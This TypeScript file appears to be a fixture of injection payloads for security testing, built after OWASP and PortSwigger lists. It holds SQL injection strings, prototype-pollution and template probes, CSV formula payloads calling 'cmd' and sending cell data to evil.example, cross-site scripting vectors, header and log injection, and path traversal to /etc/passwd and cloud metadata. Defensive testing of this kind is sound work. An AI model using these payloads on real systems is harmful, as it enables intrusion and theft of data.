/** Texts that mean something to an interpreter somebody forgot. What they would do, were they run, is seen: see MARK. */
export interface HostileText {
  kind: "sql" | "operator" | "formula" | "script" | "log" | "header" | "path";
  text: string;
}

/** A script that runs leaves this behind. */
const MARK = "hostileTextRan";
const RUN = `window.${MARK}=1`;

const SQL_BREAKS = [
  "'",
  '"',
  "`",
  "\\'",
  "''",
  "')",
  "'))",
  "$$",
  "$1",
  "%27",
  "%%",
  "\u02bc",
  "\uff07",
  "E'\\x27",
  "\\",
];
const SQL_REST = [
  " OR 1=1--",
  "; DROP TABLE import;--",
  "; select pg_sleep(9)--",
  " UNION SELECT secret_sha256 FROM api_token--",
  "||(select current_user)||",
  "/**/AND/**/1=0",
  "; set session authorization postgres;--",
  "; copy programme to program 'id';--",
];

const OPERATORS = [
  '{"not":""}',
  '{"$ne":null}',
  '{"contains":"%"}',
  '{"in":["a","b"]}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "[object Object]",
  "undefined",
  "null",
  "NaN",
  "true",
  "$\u007b7*7}",
  "#{7*7}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "$\u007bprocess.env.DATABASE_URL}",
  "$where",
  "%s%s%s%n",
  "%d",
  "{0}",
];

const FORMULA_STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''="];
const FORMULA_REST = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"Click")',
  "SUM(1,1)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'WEBSERVICE("https://evil.example")',
  "DDE(0;0;0)",
  "IMAGE(A1)",
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=data:,${RUN}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${MARK}=1"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `]]><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}`,
  `\\u003cscript\\u003e${RUN}`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `self.__next_f.push([1,"x"])`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<x onclick=${RUN}>`,
  `<button formaction="javascript:${RUN}">x</button>`,
];
const SCRIPT_FRAMES = ["", '"', "'", '">', "'>", "`", "--><", "</td>", "</title>", "</textarea>"];

const LOG_LINES = [
  "\n",
  "\r",
  "\r\n",
  "\u2028",
  "\u2029",
  "\u0085",
  "\u001b[2K",
  "\\n",
  "%0a",
  "\v",
  "\f",
  "\u0000",
].flatMap((end) => [
  `user${end}{"level":30,"msg":"An administrator signed in."}`,
  `user${end}2026-01-01T00:00:00Z INFO all is well`,
  `user${end}\u001b[31mred`,
]);

const HEADERS = ["\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\\r\\n", "\u2028"].flatMap((end) => [
  `name${end}Set-Cookie: uptake=fixed`,
  `name${end}Location: https://evil.example`,
  `name${end}${end}<script>${RUN}</script>`,
  `name"; filename="evil.exe${end}`,
]);

const PATHS = [
  "../",
  "..\\",
  "..%2f",
  "%2e%2e/",
  "..%5c",
  "....//",
  "..;/",
  "%252e%252e%252f",
  "..\u2215",
  "/",
  "\\\\evil\\",
].flatMap((step) => [
  `${step}${step}${step}etc/passwd`,
  `${step}${step}.data/keys/share2care.key`,
  `${step}evil.csv\u0000.txt`,
]);
const ADDRESSES = [
  "//evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "https:evil.example",
  "https://evil.example",
  "/\t/evil.example",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  "http://localhost:3000@evil.example",
  "javascript://%0aalert(1)",
];

const all = (kind: HostileText["kind"], texts: string[]): HostileText[] =>
  texts.map((text) => ({ kind, text }));
const each = (starts: string[], rests: string[]) =>
  starts.flatMap((start) => rests.map((rest) => start + rest));

/**
 * More than five hundred, each once.
 *
 * Source  put together after the OWASP Web Security Testing Guide (SQL, script, header, path and log injection), OWASP's
 *         page on CSV injection, and the ways around escaping of PortSwigger's cross-site scripting list.
 */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...all("sql", each(SQL_BREAKS, SQL_REST)),
  ...all("operator", OPERATORS),
  ...all("formula", each(FORMULA_STARTS, FORMULA_REST)),
  ...all("script", each(SCRIPT_FRAMES.slice(0, 5), SCRIPTS)),
  ...all("log", LOG_LINES),
  ...all("header", HEADERS),
  ...all("path", [...PATHS, ...ADDRESSES]),
];
